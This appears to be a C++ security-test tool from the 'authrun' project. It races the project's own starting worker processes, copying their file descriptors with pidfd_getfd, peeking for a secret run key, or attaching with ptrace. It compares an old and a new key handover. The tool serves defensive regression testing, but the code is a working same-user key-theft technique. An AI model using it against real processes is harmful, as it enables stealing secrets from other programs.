// authrun-key-race: the start-up window attacks of tests/runner/engine/e2e_keyrace.cpp and scripts/demo-security. A
// process of the same user copies a starting worker's fds 3, 0 and 1 with pidfd_getfd and peeks at them
// (recv MSG_PEEK) until the worker turns non-dumpable; or attaches to it with ptrace. Run as root, it first
// drops both sides to uid/gid 65534 (root could do all of this to any process; the attack is a same-user one).
#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <set>
#include <string>
#include <vector>

#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <sodium.h>
#include <spawn.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "protocol/channel.hpp"
#include "protocol/fd.hpp"
#include "protocol/key_handover.hpp"
#include "protocol/run_key.hpp"

extern char** environ;

namespace authrun::attacks {
namespace {

using namespace protocol;
using namespace std::chrono_literals;

constexpr char k_usage[] = R"(usage: authrun-key-race [--uid N] MODE ...

  --uid N                 as root, the unprivileged uid/gid both sides drop to (default 65534); attacks
                          running at the same time use different ones so that they do not meet

  race v1|v2 N WORKER...  start N workers one after another, as a test-only runner that hands the key over
                          the old way (v1: written into the fd-3 socket before the spawn) or the way the
                          runner does now (v2: the rendezvous, serve_key_request). A second process (the
                          attacker) is told each pid at once and copies fds 3, 0, 1 with pidfd_getfd and
                          peeks at them until the worker is non-dumpable. Reports
                          "RESULT mode=race handover=vN spawns=N fd_copies=C keys_obtained=K".
  hunt SECONDS [--ptrace] blind: scan /proc for new authrun-worker processes for SECONDS, and do the same to
                          each (32 bytes peeked = a key); with --ptrace, attach to each with PTRACE_SEIZE
                          instead and keep it attached. Reports "RESULT mode=hunt workers_seen=W
                          fd_copies=C keys_obtained=K attached=A" and, with --ptrace, the attached pids.
)";

void say(const std::string& text) { std::fprintf(stderr, "authrun-key-race[%d]: %s\n", static_cast<int>(::getpid()), text.c_str()); }

// Both sides of the attack as one unprivileged user: root bypasses every check this is about.
uid_t g_uid = 65534;

bool drop_root() {
  if (::geteuid() != 0) return true;
  const gid_t nobody = g_uid;
  if (::setgroups(0, nullptr) != 0 || ::setresgid(nobody, nobody, nobody) != 0 || ::setresuid(nobody, nobody, nobody) != 0) {
    say("cannot drop to uid " + std::to_string(g_uid) + ": " + std::strerror(errno));
    return false;
  }
  say("running as root: both sides dropped to uid/gid " + std::to_string(g_uid) + " (a same-user attack)");
  return true;
}

int pidfd_open(pid_t pid) { return static_cast<int>(::syscall(SYS_pidfd_open, pid, 0)); }
int pidfd_getfd(int pidfd, int fd) { return static_cast<int>(::syscall(SYS_pidfd_getfd, pidfd, fd, 0)); }

// What one attack on one starting process got.
struct Loot {
  int fd_copies = 0;                // fds copied out of it
  std::vector<std::string> peeked;  // hex of every 32-byte-or-more peek (a key, under v1)
};

// Copies fds 3, 0, 1 of `pid` as often as it can and peeks at every socket among them, until the process is
// non-dumpable (EPERM), gone (ESRCH), or `limit` passes.
Loot raid(pid_t pid, Clock::duration limit) {
  Loot loot;
  Fd pidfd(pidfd_open(pid));
  if (!pidfd.valid()) return loot;
  std::set<int> copied;
  const auto until = Clock::now() + limit;
  while (Clock::now() < until) {
    bool refused = false;
    for (int target : {3, 0, 1}) {
      Fd copy(pidfd_getfd(pidfd.get(), target));
      if (!copy.valid()) {
        if (errno == EPERM || errno == ESRCH) refused = true;
        continue;
      }
      if (copied.insert(target).second) ++loot.fd_copies;
      std::array<unsigned char, 64> buf{};
      const ssize_t n = ::recv(copy.get(), buf.data(), buf.size(), MSG_PEEK | MSG_DONTWAIT);
      if (n >= static_cast<ssize_t>(k_run_key_size)) {
        std::array<char, 2 * k_run_key_size + 1> hex{};
        ::sodium_bin2hex(hex.data(), hex.size(), buf.data(), k_run_key_size);
        loot.peeked.emplace_back(hex.data());
        return loot;
      }
    }
    if (refused) break;
  }
  return loot;
}

std::string hex_of(const RunKey& key) {
  std::array<char, 2 * k_run_key_size + 1> hex{};
  ::sodium_bin2hex(hex.data(), hex.size(), key.data(), key.size());
  return hex.data();
}

pid_t spawn_worker(const std::vector<std::string>& argv, int fd3) {
  posix_spawn_file_actions_t fa;
  ::posix_spawn_file_actions_init(&fa);
  Fd null_in(::open("/dev/null", O_RDONLY | O_CLOEXEC));
  Fd null_out(::open("/dev/null", O_WRONLY | O_CLOEXEC));
  ::posix_spawn_file_actions_adddup2(&fa, null_in.get(), 0);
  ::posix_spawn_file_actions_adddup2(&fa, null_out.get(), 1);
  ::posix_spawn_file_actions_adddup2(&fa, null_out.get(), 2);  // it fails its handshake on /dev/null: not news
  Fd high(::fcntl(fd3, F_DUPFD_CLOEXEC, 10));
  ::posix_spawn_file_actions_adddup2(&fa, high.get(), 3);
  std::vector<char*> args;
  for (const auto& a : argv) args.push_back(const_cast<char*>(a.c_str()));
  args.push_back(nullptr);
  pid_t pid = -1;
  const int rc = ::posix_spawn(&pid, args[0], &fa, nullptr, args.data(), environ);
  ::posix_spawn_file_actions_destroy(&fa);
  if (rc != 0) {
    say("cannot start " + argv[0] + ": " + std::strerror(rc));
    return -1;
  }
  return pid;
}

void reap(pid_t pid) {
  const auto until = Clock::now() + 20s;
  int status = 0;
  while (Clock::now() < until) {
    const pid_t r = ::waitpid(pid, &status, WNOHANG);
    if (r == pid || (r < 0 && errno != EINTR)) return;
    ::usleep(2000);
  }
  ::kill(pid, SIGKILL);
  ::waitpid(pid, &status, 0);
}

int mode_race(const std::string& handover, int spawns, const std::vector<std::string>& worker) {
  if (handover != "v1" && handover != "v2") return say("race: handover must be v1 or v2"), 2;
  if (!drop_root()) return 2;
  std::signal(SIGPIPE, SIG_IGN);
  auto to_attacker = make_pipe();
  auto from_attacker = make_pipe();
  if (!to_attacker || !from_attacker) return say("pipe failed"), 2;
  const pid_t attacker = ::fork();
  if (attacker == 0) {
    // The attacker: told each pid, raids it, answers "COPIES HEX|-".
    to_attacker->write.close();
    from_attacker->read.close();
    FILE* in = ::fdopen(to_attacker->read.release(), "r");
    FILE* out = ::fdopen(from_attacker->write.release(), "w");
    int pid = 0;
    while (std::fscanf(in, "%d", &pid) == 1) {
      Loot loot = raid(pid, 5s);
      std::fprintf(out, "%d %s\n", loot.fd_copies, loot.peeked.empty() ? "-" : loot.peeked.front().c_str());
      std::fflush(out);
    }
    ::_exit(0);
  }
  to_attacker->read.close();
  from_attacker->write.close();
  FILE* tell = ::fdopen(to_attacker->write.release(), "w");
  FILE* hear = ::fdopen(from_attacker->read.release(), "r");
  int copies = 0, keys = 0, served = 0;
  for (int i = 0; i < spawns; ++i) {
    RunKey key = RunKey::generate();
    pid_t pid = -1;
    if (handover == "v1") {
      // The old hand-over, reproduced here only: the key waits in the socket before the worker runs.
      auto pair = make_socket_pair();
      if (!pair) return say(pair.error().message), 2;
      std::ignore = write_all(pair->write.get(), std::span<const std::byte>(reinterpret_cast<const std::byte*>(key.data()), key.size()),
                              Clock::now() + 1s);
      pair->write.close();
      pid = spawn_worker(worker, pair->read.get());
      std::fprintf(tell, "%d\n", pid);
      std::fflush(tell);
    } else {
      auto meeting = make_rendezvous();
      if (!meeting) return say(meeting.error().message), 2;
      pid = spawn_worker(worker, meeting->worker.get());
      meeting->worker.close();
      std::fprintf(tell, "%d\n", pid);
      std::fflush(tell);
      if (auto ok = serve_key_request(meeting->runner.get(), pid, key, Clock::now() + 20s, false); ok) {
        ++served;
      } else {
        say("worker " + std::to_string(pid) + " got no key: " + ok.error().message);
      }
    }
    if (pid < 0) return 2;
    int got = 0;
    char hex[2 * k_run_key_size + 2] = {};
    if (std::fscanf(hear, "%d %65s", &got, hex) != 2) return say("the attacker is gone"), 2;
    copies += got;
    if (hex_of(key) == hex) ++keys;
    ::kill(pid, SIGKILL);  // it has stdin on /dev/null and would fail its handshake anyway
    reap(pid);
  }
  std::fclose(tell);
  reap(attacker);
  std::fprintf(stderr, "authrun-key-race[%d] RESULT mode=race handover=%s spawns=%d fd_copies=%d keys_obtained=%d answered=%d\n",
               static_cast<int>(::getpid()), handover.c_str(), spawns, copies, keys, served);
  return 0;
}

// The pids of this user's processes named authrun-worker (comm) now.
std::vector<pid_t> workers_now() {
  std::vector<pid_t> pids;
  DIR* d = ::opendir("/proc");
  if (!d) return pids;
  while (dirent* e = ::readdir(d)) {
    if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
    char path[300];
    std::snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
    Fd fd(::open(path, O_RDONLY | O_CLOEXEC));
    char comm[32] = {};
    if (!fd.valid() || ::read(fd.get(), comm, sizeof comm - 1) <= 0) continue;
    struct stat st {};
    std::snprintf(path, sizeof path, "/proc/%s", e->d_name);
    if (std::strncmp(comm, "authrun-worker\n", 15) != 0 || ::stat(path, &st) != 0 || st.st_uid != ::getuid()) continue;
    pids.push_back(std::atoi(e->d_name));
  }
  ::closedir(d);
  return pids;
}

int mode_hunt(double seconds, bool use_ptrace) {
  if (!drop_root()) return 2;
  std::set<pid_t> seen, attached;
  int copies = 0, keys = 0;
  const auto until = Clock::now() + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(seconds));
  while (Clock::now() < until) {
    for (pid_t pid : workers_now()) {
      if (!seen.insert(pid).second) continue;
      if (use_ptrace) {
        if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0) attached.insert(pid);
        continue;
      }
      Loot loot = raid(pid, 2s);
      copies += loot.fd_copies;
      keys += static_cast<int>(loot.peeked.size());
    }
    // Keep tracees running: pass on every signal that stops them.
    int status = 0;
    for (pid_t p; (p = ::waitpid(-1, &status, __WALL | WNOHANG)) > 0;) {
      if (WIFSTOPPED(status)) ::ptrace(PTRACE_CONT, p, nullptr, reinterpret_cast<void*>(static_cast<long>(WSTOPSIG(status))));
    }
  }
  std::string pids;
  for (pid_t p : attached) {
    if (!pids.empty()) pids += ',';
    pids += std::to_string(p);
  }
  std::fprintf(stderr, "authrun-key-race[%d] RESULT mode=hunt workers_seen=%zu fd_copies=%d keys_obtained=%d attached=%zu pids=%s\n",
               static_cast<int>(::getpid()), seen.size(), copies, keys, attached.size(), pids.empty() ? "-" : pids.c_str());
  return 0;
}

int run(std::vector<std::string> args) {
  if (args.size() >= 2 && args[0] == "--uid") {
    g_uid = static_cast<uid_t>(std::atoi(args[1].c_str()));
    args.erase(args.begin(), args.begin() + 2);
  }
  if (args.size() >= 4 && args[0] == "race") {
    return mode_race(args[1], std::atoi(args[2].c_str()), std::vector<std::string>(args.begin() + 3, args.end()));
  }
  if (args.size() >= 2 && args[0] == "hunt") {
    return mode_hunt(std::atof(args[1].c_str()), args.size() >= 3 && args[2] == "--ptrace");
  }
  std::fputs(k_usage, stderr);
  return 2;
}

}  // namespace
}  // namespace authrun::attacks

int main(int argc, char** argv) {
  if (::sodium_init() < 0) return 2;
  return authrun::attacks::run(std::vector<std::string>(argv + 1, argv + argc));
}
